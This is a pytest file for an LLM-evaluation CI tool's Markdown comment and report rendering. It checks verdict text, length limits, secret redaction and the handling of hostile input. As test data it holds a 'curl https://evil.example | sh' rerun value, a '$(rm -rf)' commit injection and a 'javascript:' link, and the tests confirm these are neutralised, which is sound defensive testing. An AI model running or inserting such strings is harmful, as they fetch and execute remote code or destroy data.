import re
from dataclasses import replace
from datetime import date

import pytest
from comparing import judge
from factories import make_report
from full_report import full_report
from hostile_reports import PAYLOADS, hostile
from made_reports import (
    KOREAN,
    answered,
    broken,
    broken_case,
    case,
    changed,
    compared,
    comparison,
    first_run,
    lost,
    report,
    summary,
)
from outcomes import OUTCOMES
from rendering import comment_body, render, unmeasured_body
from servers.markdown import code_texts, dangers
from servers.markdown import render as to_html

from lm_eval_so.action.comment import LEVELS
from lm_eval_so.action.event import plain_suite_id
from lm_eval_so.action.inputs import LEAST_CHARS
from lm_eval_so.action.marker import State, marker
from lm_eval_so.comparator.exemptions.files import read_exceptions
from lm_eval_so.core.config.load import make_config
from lm_eval_so.core.records.comparison import Reason, Stability
from lm_eval_so.core.records.enums import Direction, Language, MetricKind, Verdict
from lm_eval_so.core.records.report import SliceFigures
from lm_eval_so.core.secrets import make_redactor
from lm_eval_so.core.templates.safe import normalise, utf16_units
from lm_eval_so.errors import Problem, Where
from lm_eval_so.pipeline.github.posting import before_text
from lm_eval_so.pipeline.measure.verdict import unmeasured
from lm_eval_so.reporter.markdown import Origin

RUN_URL = "https://github.com/o/r/actions/runs/9123456789"
COMPARISONS = {
    "regression": comparison(),
    "pass": comparison(
        Verdict.PASS,
        metrics={"exact_match": compared(Verdict.PASS, candidate=215 / 239, delta=1 / 239)},
        changed=(),
        differences=(),
    ),
    "accepted": OUTCOMES["accepted here"][0],
    "loosened": OUTCOMES["rules loosened"][0],
    "tightened": OUTCOMES["rules tightened"][0],
    "inconclusive": comparison(
        Verdict.INCONCLUSIVE,
        metrics={
            "exact_match": compared(
                Verdict.INCONCLUSIVE,
                candidate=208 / 239,
                delta=-6 / 239,
                ci90=(-0.063, 0.013),
                needed_n=610,
                missing=(0, 1),
            )
        },
    ),
    "no_baseline": first_run(),
    "lost": comparison(
        Verdict.PASS,
        metrics={"exact_match": compared(Verdict.PASS, candidate=214 / 239, delta=0.0)},
        changed=(),
        differences=(),
        lost=lost(),
    ),
}
REPORTS = {"lost": report(answered=answered())}


def spoken(name, language):
    """Return a comparison whose sentence is in the language, as `compare` makes it."""
    made = COMPARISONS[name]
    return replace(made, sentence=KOREAN[made.verdict]) if language is Language.KO else made


def body(made=None, given=None, *, level=0, language=Language.EN, **options):
    origin = Origin(run_url=RUN_URL, accept=".lm-eval-so/accept.yaml")
    return comment_body(
        made or comparison(),
        given or report(),
        level=level,
        language=language,
        origin=options.pop("origin", origin),
        **options,
    )


@pytest.mark.parametrize("language", list(Language))
@pytest.mark.parametrize("name", list(COMPARISONS))
def test_comment_body__golden(name, language, golden):
    text = body(spoken(name, language), REPORTS.get(name), language=language)
    golden(f"comment/{name}.{language}.md", text)
    assert dangers(without_links(text)) == []


def test_comment_body__no_word_of_a_fork_passes_for_ours() -> None:
    """Its records may be written by hand, and plain words need no Markdown to lie."""
    lie = "approved by everyone here"
    foreign = Origin(run_url=RUN_URL, commit="4f2a9c1" + "0" * 33, is_foreign=True)
    rules = COMPARISONS["loosened"].rules
    assert rules is not None
    own = replace(rules.changes[0], kind="setting", key=lie, base=lie, head=lie)
    accepted = COMPARISONS["accepted"]
    accept = tuple(replace(each, reason=lie) for each in accepted.accept)
    unanswered = comparison(
        Verdict.ERROR, reasons=(Reason(code="unmeasured", figures={"what": lie}),)
    )
    made = [
        replace(COMPARISONS["loosened"], rules=replace(rules, changes=(own, *rules.changes))),
        replace(accepted, accept=accept),
        unanswered,
        replace(comparison(), lost=replace(lost(), by={lie: 2})),
    ]
    for each in made:
        for level in range(LEVELS):
            html = to_html(body(each, level=level, origin=foreign))
            assert lie not in re.sub("<code.*?</code>", "", html, flags=re.DOTALL)


@pytest.mark.parametrize("language", list(Language))
def test_comment_body__golden_of_a_fork(language, golden):
    """Its sentences are quotations, and it tells nobody what to run."""
    made = replace(spoken("inconclusive", language), rerun="curl https://evil.example | sh")
    foreign = Origin(run_url=RUN_URL, commit="4f2a9c1" + "0" * 33, is_foreign=True)
    texts = [body(made, level=level, language=language, origin=foreign) for level in range(LEVELS)]
    golden(f"comment/foreign.{language}.md", f"{texts[0]}\n{texts[-1]}")
    assert "curl" not in "".join(texts)
    assert "git checkout" not in "".join(texts)
    unchanged = judge(*[make_report({"m": [1] * 10})] * 2, language=language)
    for each in (made, COMPARISONS["accepted"], unchanged):
        for level in range(LEVELS):
            text = body(each, level=level, language=language, origin=foreign)
            assert dangers(without_links(text)) == []
            quoted = [each.sentence, *(entry.reason for entry in each.accepted_here)]
            assert all(any(told[:30] in code for code in code_texts(text)) for told in quoted)


@pytest.mark.parametrize(
    ("language", "told"),
    [
        (Language.EN, "This verdict covers the 50 questions of this dataset"),
        (Language.KO, "이 데이터셋의 질문 50개만 판정했습니다."),
    ],
)
def test_comment_body__says_once_that_others_are_not_covered(language, told):
    sides = [make_report({"m": [[1, 1, 1]] * 50}) for _ in range(2)]
    like_these, these = (
        body(judge(*sides, gate={"claim": claim}, language=language), sides[0], language=language)
        for claim in ("like_these", "these")
    )
    assert these.count(told) == 1
    assert told not in like_these
    for kind in ("md", "html"):
        page = render(
            sides[0], judge(*sides, gate={"claim": "these"}), format=kind, language=language
        )
        assert page.count(told) == 1


@pytest.mark.parametrize("language", list(Language))
@pytest.mark.parametrize("name", [*COMPARISONS, "alone"])
def test_render__golden_report(name, language, golden):
    made = spoken(name, language) if name in COMPARISONS else None
    text = render(REPORTS.get(name, report()), made, format="md", language=language)
    golden(f"report/{name}.{language}.md", text)
    assert dangers(text) == []


@pytest.mark.parametrize("language", list(Language))
def test_render__golden_full(language, golden):
    text = render(full_report(), None, format="md", language=language)
    golden(f"report/full.{language}.md", text)
    assert dangers(text) == []
    assert text == render(full_report(), None, format="md", language=language)


@pytest.mark.parametrize("level", range(LEVELS))
def test_comment_body__golden_levels(level, golden):
    many = tuple(changed(f"refund-{n:03d}", candidate_answer="답" * 700) for n in range(12))
    text = body(comparison(changed=many), level=level)
    golden(f"comment/level-{level}.md", text)
    assert text.startswith("### ❌ Worse on average: exact_match 89.5% → 84.9% · support-qa\n")
    assert text.count("<details>") == text.count("</details>")
    assert ("Re-running until it is green defeats the gate" in text) is (level < LEVELS - 1)
    assert ("Details were left out" in text) is (level > 0)


def test_comment_body__whole_answers_where_they_fit():
    long = "-".join(f"part{i}" for i in range(800))
    worse = replace(comparison().changed[0], candidate_answer=long)
    made = comparison(changed=(worse,), broken=None)
    levels = {
        shortens: [body(made, level=n, shortens=shortens) for n in (0, 1)]
        for shortens in (True, False)
    }
    assert [long in text for text in levels[True]] == [False, False]
    assert [long in text for text in levels[False]] == [True, False]
    pages = [render(report(), made, format="md", shortens=each) for each in (True, False)]
    assert [long in page for page in pages] == [False, True]


def test_comment_body__each_level_is_shorter():
    many = tuple(changed(f"r-{n:03d}", candidate_answer="답" * 2000) for n in range(300))
    lengths = [len(body(comparison(changed=many), level=level)) for level in range(LEVELS)]
    assert lengths == sorted(lengths, reverse=True)
    assert len(set(lengths)) == LEVELS
    assert lengths[4] < 3000


def without_links(text):
    return re.sub(r"\]\(" + re.escape(RUN_URL) + r"(#artifacts)?\)", "]", text)


@pytest.mark.parametrize("language", list(Language))
@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_markdown__hostile_texts_do_nothing(payload, language):
    made, given = hostile(payload)
    texts = [
        body(
            made,
            given,
            language=language,
            level=level,
            origin=Origin(commit=payload, config=payload, accept=payload),
        )
        for level in range(LEVELS)
    ]
    texts.append(render(given, made, format="md", language=language))
    for text in texts:
        assert dangers(text) == []
        html = to_html(text)
        assert html.count("<details>") == html.count("</details>")
        assert not text.startswith("<!--")
    shown = normalise(payload).replace("\n", "⏎")
    assert any(shown[:40] in code for code in code_texts(texts[0]))


def test_markdown__table_rows_keep_their_cells():
    made, given = hostile(PAYLOADS["s5"])
    html = to_html(body(made, given))
    rows = [row for row in html.split("<tr>")[1:] if "<td" in row]
    assert {row.count("<td") for row in rows} == {2, 5, 10}  # a case, a metric, a judge


@pytest.mark.parametrize("level", range(LEVELS))
def test_markdown__s8_secrets_are_taken_out_first(level):
    secret = "hunter2-long-password`|<x>"
    redactor = make_redactor({"BOT_PASSWORD": secret})
    made, given = hostile(f"see {secret} now")
    text = body(made, given, level=level, redactor=redactor)
    assert "hunter2" not in text
    assert "[redacted:BOT_PASSWORD]" in text
    assert "hunter2" not in render(given, made, format="md", redactor=redactor)
    assert "hunter2" not in render(given, None, format="json", redactor=redactor)


def test_comment_body__reproduce_only_with_a_real_commit():
    assert "git checkout" not in body(origin=Origin(commit="$(rm -rf)"))
    text = body(origin=Origin(commit="abcdef1234567890", config="my conf;x.yaml"))
    assert (
        "git checkout abcdef123456\nlm-eval-so ci -c 'my conf;x.yaml' --set baseline.ref=8d01e7700000\n"
        in text
    )
    merge = "abcdef12" * 5  # GitHub's merge, which no branch of a clone has
    assert f"git fetch origin {merge}\ngit checkout abcdef12abcd\n" in body(
        origin=Origin(commit=merge)
    )


def test_comment_body__says_who_got_the_questions_and_what_it_cost():
    given = report()
    experiment = replace(
        given.experiment,
        run_config={"run": {"max_cost_usd": 5}},
        sent_to=("bot.example.com:8443", "api.openai.com"),
    )
    health = {key: replace(each, state="ok") for key, each in given.judges.items()}
    text = body(given=replace(given, experiment=experiment, judges=health))
    assert "judge `gpt-4.1` ·" in text
    assert "sent to `bot.example.com:8443, api.openai.com` ·" in text
    assert text.count("sent to") == 1
    assert "This run USD 0.41 of USD 5.00 allowed · " in text
    assert "<summary>Judge health: ok</summary>" in text


def test_comment_body__says_how_a_regression_is_accepted(tmp_path):
    cases = (
        broken_case("refund-014"),
        broken_case("must-1", "must"),
        broken_case("open", "unproven"),
        broken_case("slip", "slip"),
    )
    reasons = (Reason(code="broken_cases", figures={"proven": 1}),)
    made = replace(comparison(reasons=reasons), broken=broken(*cases), changed=())
    made = replace(made, changed=(changed("must-1", baseline=0.9, candidate=0.5),))
    text = body(made, origin=Origin(accept="bots/shop/accept.yaml"))
    assert "add this to: `bots/shop/accept.yaml`\n" in text
    entries = text.partition("```yaml\n")[2].partition("\n```")[0].replace("reason:", "reason: x")
    (tmp_path / "accept.yaml").write_text(entries, encoding="utf-8")
    config = make_config(
        {
            "version": 1,
            "suite": "x",
            "dataset": {"path": "d"},
            "gate": {"accept": "accept.yaml"},
        },
        folder=tmp_path,
    )
    found = read_exceptions(config, day=date(2026, 3, 2)).accept
    assert [(e.sample_id, e.metric, e.max_drop, f"{e.until}") for e in found] == [
        ("refund-014", None, 1.0, "2026-04-01"),
        ("must-1", None, 0.4, "2026-04-01"),
        (None, "exact_match", 0.047, "2026-04-01"),
    ]
    for other in (body(made, origin=Origin()), body(COMPARISONS["pass"])):
        assert "yaml" not in other


def test_comment_body__links_only_to_the_run():
    assert "](" not in body(origin=Origin(run_url="javascript:alert(1)"))
    assert body().count(f"]({RUN_URL}") >= 1


def test_comment_body__without_a_report():
    text = comment_body(comparison(), None, level=0, language=Language.EN, origin=Origin())
    assert text.startswith("### ❌ Worse on average: exact_match 89.5% → 84.9% · support-qa\n")


def test_render__comparison_alone():
    text = render(None, comparison(), format="md")
    assert text.startswith("# Comparison: support-qa\n")
    assert dangers(text) == []


def test_render__same_input_same_bytes():
    assert render(report(), comparison(), format="md") == render(
        report(), comparison(), format="md"
    )


def test_comment_body__rows_without_a_score_are_counted_not_listed():
    given = report()
    metrics = {**given.metrics, "exact_match": summary(unscored=1234)}
    text = body(given=replace(given, metrics=metrics))
    assert "without a score (1,234)" in text
    assert "Without a score: `deliver-044`\n" in text


@pytest.mark.parametrize(
    ("changes", "allowed"),
    [
        ({"threshold": {"max_increase": 0.25}}, "×1.25"),
        ({"threshold": None, "margin": None}, "–"),
    ],
)
def test_comment_body__allowed_factor(changes, allowed):
    metric = replace(comparison().metrics["latency_ms"], **changes)
    text = body(comparison(metrics={"latency_ms": metric}))
    assert (
        f"| ⚪ reported (not gating) | 2,100 → 2,310 | ×1.10 (0.90 to 1.34) | {allowed} |" in text
    )


@pytest.mark.parametrize(
    ("span", "shown"),
    [((0.0, 1.0), "−0.003 (−0.011 to +0.005)"), ((1.0, 5.0), "−0.00300 (−0.0110 to +0.00500)")],
)
def test_comment_body__changes_have_as_many_digits_as_their_scores(span, shown):
    given = report()
    metrics = {**given.metrics, "helpful": replace(given.metrics["helpful"], range=span)}
    assert f"| {shown} |" in body(given=replace(given, metrics=metrics))


def test_comment_body__shares_of_repeated_answers_are_percent():
    steady = Stability(repeats=3, n=239, flaky_share=0.1, self_flip_rate=0.05, flaky=())
    scores = compared(Verdict.PASS, kind=MetricKind.BOUNDED)
    shares = replace(scores, stability={"candidate": steady})
    assert "| 0.895 → 0.849 | −0.046 " in body(comparison(metrics={"exact_match": scores}))
    assert "| 89.5% → 84.9% | −4.6 points " in body(comparison(metrics={"exact_match": shares}))


LONG = {
    **PAYLOADS,
    "words": "@ " * 9000,
    "korean": "환불 " * 9000,
    "family": "👨‍👩‍👧‍👦 " * 9000,
    "stacked": "a" + "\u0301" * 9000,
    "tokens": "a/b@c`d " * 9000,
}


@pytest.mark.parametrize("language", list(Language))
@pytest.mark.parametrize("payload", LONG.values(), ids=LONG.keys())
def test_markdown__the_last_level_fits_into_the_least_that_may_be_asked_for(payload, language):
    """With the longest lines before it: a suite id of 120 characters, each as long as it gets."""
    state = State(run=10**12, attempt=999, job="x" * 12, head="a" * 64, sum="x" * 12)
    head = [
        marker(plain_suite_id("👍" * 500)),
        replace(state, verdict="incomparable", at="b" * 64).line(),
    ]
    url = f"https://github.example.com/{'o' * 39}/{'r' * 100}/actions/runs/{10**12}"
    before = before_text(replace(state, verdict="inconclusive", at="b" * 64), language)
    given = {"level": LEVELS - 1, "language": language, "before": before}
    problem = Problem(what=payload, where=Where(file=payload, key=payload), hint=payload)
    made, made_of = hostile(payload)
    for text in (
        body(made, made_of, origin=Origin(run_url=url), **given),
        body(made, made_of, origin=Origin(run_url=url, is_foreign=True), **given),
        unmeasured_body(
            [problem] * 50,
            suite=payload,
            origin=Origin(run_url=url, commit="d5f0042"),
            redactor=make_redactor({}),
            **given,
        ),
    ):
        whole = "\n".join([*head, text])
        assert utf16_units(whole) <= LEAST_CHARS
        assert f"]({url})" in text
        assert dangers(text.replace(f"]({url})", "]")) == []
        assert before.partition(": ")[2] in text


PROBLEMS = [
    Problem(
        what='unknown key "datasset" (did you mean "dataset"?)',
        where=Where(file="conf/lm-eval-so.yaml", line=4, column=1, key="datasset"),
    ),
    Problem(
        what="the endpoint refused the key in `OPENAI_API_KEY` (401: @octocat <img src=x>)",
        hint="check it: it is wrong; nothing else was sent",
    ),
]


@pytest.mark.parametrize("language", list(Language))
@pytest.mark.parametrize("level", [0, 1])
def test_unmeasured_body__golden(level, language, golden):
    text = unmeasured_body(
        PROBLEMS,
        level=level,
        suite="support-qa",
        language=language,
        origin=Origin(run_url=RUN_URL, commit="d5f0042" + "0" * 33),
        before=before_text(State(verdict="pass", at="4f2a9c1" + "0" * 33), language),
        redactor=make_redactor({}),
    )
    golden(f"comment/unmeasured-{level}.{language}.md", text)
    assert dangers(without_links(text)) == []


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_unmeasured_body__hostile_texts_do_nothing(payload):
    problem = Problem(what=payload, where=Where(file=payload, line=3, key=payload), hint=payload)
    secret = Problem(what="see hunter2-long-password now")
    text = unmeasured_body(
        [problem, problem, secret],
        level=0,
        suite=payload,
        language=Language.KO,
        origin=Origin(commit=payload),
        redactor=make_redactor({"BOT_PASSWORD": "hunter2-long-password"}),
    )
    assert dangers(text) == []
    assert "[redacted:BOT_PASSWORD]" in text
    assert not text.startswith("<!--")


def test_unmeasured_body__many_problems_are_counted():
    text = unmeasured_body(
        [Problem(what=f"problem {n}") for n in range(1, 101)],
        level=0,
        suite=None,
        language=Language.EN,
        origin=Origin(),
        redactor=make_redactor({}),
    )
    assert text.startswith("### ⚠️ Could not be measured: problem 1\n\n- problem 2.\n")
    assert "- problem 20.\n- … and 80 more.\n" in text


@pytest.mark.parametrize("language", list(Language))
def test_comment_body__nothing_has_a_score(language, golden):
    """No table with figures of the baseline alone; what went wrong and what was before comes first."""
    none = {"candidate": None, "delta": None, "ci90": None, "missing": (0, 239)}
    metrics = {key: replace(m, **none) for key, m in comparison().metrics.items()}
    made = comparison(Verdict.ERROR, metrics=metrics, changed=(), differences=())
    failure = Problem(
        what="could not measure: 239 of 239 rows have no answer (error 239)",
        hint="lm-eval-so run asks only those again",
    )
    before = before_text(State(verdict="pass", at=made.baseline.ref), language)
    text = body(unmeasured(made, failure, language), language=language, before=before)
    golden(f"comment/nothing_scored.{language}.md", text)
    assert "| --- |" not in text.partition("<details>")[0]
    is_korean = language is Language.KO
    why = "답변 239건 중 239건을 받지 못했습니다" if is_korean else "239 of 239 rows have no answer"
    first = "측정하지 못함" if is_korean else "Could not be measured"
    assert text.startswith(f"### ⚠️ {first}: {why}")


@pytest.mark.parametrize("language", list(Language))
@pytest.mark.parametrize(
    ("before", "now", "change", "allowed"),
    [
        ([1] * 10 + [0] * 90, [1] * 40 + [0] * 60, "+30.0{unit}", "+5.0{unit}"),
        ([1] * 60 + [0] * 40, [1] * 20 + [0] * 80, "−40.0{unit}", "+5.0{unit}"),
        ([0.1] * 60 + [0.2] * 40, [0.3] * 60 + [0.2] * 40, "+0.120", "+0.030"),
    ],
)
def test_comment_body__sentence_and_table_have_the_sign_of_candidate_minus_baseline(
    language, before, now, change, allowed
):
    lower = {"directions": {"toxicity": Direction.LOWER}}
    candidate = make_report({"toxicity": now}, **lower)
    made = judge(make_report({"toxicity": before}, **lower), candidate, language=language)
    sentence = body(made, candidate, language=language)
    unit = "%p" if language is Language.KO else " points"
    note = "낮을수록 좋음" if language is Language.KO else "less is better"
    change, allowed = (text.format(unit=unit) for text in (change, allowed))
    assert f"({change})" in sentence
    row = row_of(body(made, candidate, language=language), "toxicity")
    assert row[0] == f"toxicity ({note})"
    assert row[3].startswith(f"{change} (")
    assert row[4] == allowed
    low, high = re.findall(r"[+−]?\d+\.\d+(?= |\))", row[3].partition("(")[2])
    assert as_number(low) < as_number(change.removesuffix(unit)) < as_number(high)


def test_comment_body__more_is_better__is_not_said():
    assert "less is better" not in body()
    assert "less is better" not in body(comparison(metrics={"latency_ms": latency()}))


def test_comment_body__warnings_of_the_data_are_told_once():
    warnings = (
        Reason(code="missing_rows", figures={"side": "candidate", "q": 4, "e": 100}),
        Reason(code="out_of_range", figures={"side": "baseline", "q": 1}),
        Reason(code="groups_ignored", figures={"statistic": "bound"}),
    )
    told = "helpful: baseline values outside the metric's range (1) count as missing."
    metric = compared(Verdict.PASS, warnings=warnings, missing=(1, 4))
    text = body(comparison(metrics={"helpful": metric}, sentence=f"It fell. {told}"))
    assert (
        "⚠ helpful: 4 of the candidate's 100 rows have no score; counted as the worst case.\n"
        in text
    )
    assert "⚠ helpful: groups of samples are ignored for the bound.\n" in text
    assert text.count("count as missing") == 1
    assert "the intervals count them" not in text
    korean = body(comparison(metrics={"helpful": metric}), language=Language.KO)
    assert "⚠ helpful: 이번 실행 100건 중 4건에 점수가 없어 최악의 경우로 계산했습니다.\n" in korean
    assert "⚠ helpful: 신뢰한계는 그룹을 고려하지 않고 계산합니다." in korean


@pytest.mark.parametrize("reason", ["missing", "error_rate", "missing_unbounded"])
def test_comment_body__missing_rows_that_the_verdict_tells_are_no_warning(reason):
    rows = Reason(code="missing_rows", figures={"side": "candidate", "q": 4, "e": 100})
    metric = compared(Verdict.INCONCLUSIVE, reason=reason, warnings=(rows,))
    made = comparison(Verdict.INCONCLUSIVE, metrics={"exact_match": metric})
    assert "⚠" not in body(made).partition("<details>")[0]


@pytest.mark.parametrize(("needed", "is_shown"), [(239, False), (240, True), (None, False)])
def test_comment_body__needed_samples__only_if_there_are_fewer(needed, is_shown):
    metric = compared(Verdict.PASS, needed_n=needed)
    text = body(comparison(Verdict.PASS, metrics={"exact_match": metric}))
    assert ("80% power" in text) is is_shown


@pytest.mark.parametrize("verdict", [Verdict.REGRESSION, Verdict.IMPROVED, Verdict.INCONCLUSIVE])
def test_comment_body__needed_samples__not_where_it_is_settled_or_said(verdict):
    metric = compared(verdict, needed_n=10_000)
    assert "80% power" not in body(comparison(verdict, metrics={"exact_match": metric}))


def test_comment_body__rows_that_make_an_error_are_not_called_the_worst_case():
    rows = Reason(code="missing_rows", figures={"side": "candidate", "q": 40, "e": 100})
    metric = compared(Verdict.ERROR, reason="error_rate", warnings=(rows,))
    other = replace(metric, sentence="the whole does not tell of this one")
    made = comparison(Verdict.ERROR, metrics={"exact_match": metric, "contains": other})
    assert "worst case" not in body(made)


@pytest.mark.parametrize(("left_out", "is_told"), [(0, False), (6, True)])
def test_comment_body__says_how_many_samples_do_not_count(left_out, is_told):
    text = body(comparison(metrics={"exact_match": compared(left_out=left_out)}))
    assert ("do not count for exact_match (6)" in text) is is_told


def test_comment_body__unpaired_metric__has_no_counts():
    metric = compared(Verdict.INCOMPARABLE, reason="fingerprint", n=0, delta=None, ci90=None)
    row = row_of(body(comparison(metrics={"exact_match": metric})), "exact_match")
    assert row[1:4] == ["⚪ incomparable", "89.5% → 84.9%", "–"]


def test_render__slices_that_the_metric_does_not_apply_to_are_left_out():
    given = report()
    empty = SliceFigures(n=0, mean=None, ci95=None, unscored=0)
    slices = [replace(each, metrics={"exact_match": empty}) for each in given.breakdowns[1:2]]
    text = render(replace(given, breakdowns=(given.breakdowns[0], *slices)), None, format="md")
    assert "Breakdown" not in text


def test_comment_body__rows_that_never_reached_the_judge_are_not_taken_off():
    given = report()
    health = replace(
        given.judges["helpful"], rows=80, unscored={"judge_unknown": 5, "run_timeout": 20}
    )
    row = row_of(body(given=replace(given, judges={"helpful": health})), "helpful", last=True)
    assert row[2] == "75"


def latency():
    return compared(kind=MetricKind.RATIO, direction=Direction.LOWER, delta=1.1, ci90=(0.9, 1.3))


@pytest.mark.parametrize(
    ("figures", "told"),
    [
        ({"x": 0.25}, "25.0% longer, and this judge prefers longer answers"),
        ({"way": "longer", "x": 0.25}, "25.0% longer, and many judges prefer longer answers"),
        ({"way": "shorter", "x": 0.25}, "25.0% shorter"),
        ({"way": "liked"}, "This judge prefers longer answers"),
    ],
)
def test_comment_body__a_leaning_judge_is_told_in_each_way(figures, told):
    warning = Reason(code="judge_leans", figures=figures)
    assert told in body(comparison(metrics={"helpful": compared(warnings=(warning,))}))


def row_of(text, metric, *, last=False):
    rows = [line for line in text.splitlines() if line.startswith(f"| {metric}")]
    return [cell.strip() for cell in rows[-1 if last else 0].strip("|").split("|")]


def as_number(text):
    return float(text.replace("−", "-"))


def test_render__times_of_cached_rows_are_no_warning():
    given = report()
    cached = summary(MetricKind.RATIO, unscored=40, unscored_by={"cached": 40}, rows=0, mean=None)
    lost = summary(MetricKind.RATIO, unscored=40, unscored_by={"cached": 38, "run_timeout": 2})
    text = render(replace(given, metrics={"a": cached, "b": lost}), None, format="md")
    assert "a: rows without" not in text
    assert "b: rows without a score: 2 of 241." in text


@pytest.mark.parametrize(
    ("language", "told"), [(Language.EN, "3 of 3 times"), (Language.KO, "3번 중 3번")]
)
def test_render__a_wrong_answer_that_came_three_times_is_one_line(language, told):
    made = report()
    asked = replace(made.samples, ids=("refund-014",) * 3 + made.samples.ids[3:])
    rows = tuple(case(repeat=repeat) for repeat in (2, 0, 1))
    given = replace(made, samples=asked, errors=rows, failed_ids=("refund-014",))
    text = render(given, None, format="md", language=language)
    (line,) = [each for each in text.splitlines() if each.startswith("<details><summary>")]
    assert f"<code>refund-014</code> · <code>{told}</code>" in line
    assert "cases are shown" not in text
    other = replace(given, errors=(*rows[:2], case(repeat=1, answer="Never.")))
    lines = render(other, None, format="md").splitlines()
    assert [each.split(" · ")[1] for each in lines if each.startswith("<details><summary>")] == [
        "<code>2 of 3 times</code>",
        "<code>1 of 3 times</code>",
    ]
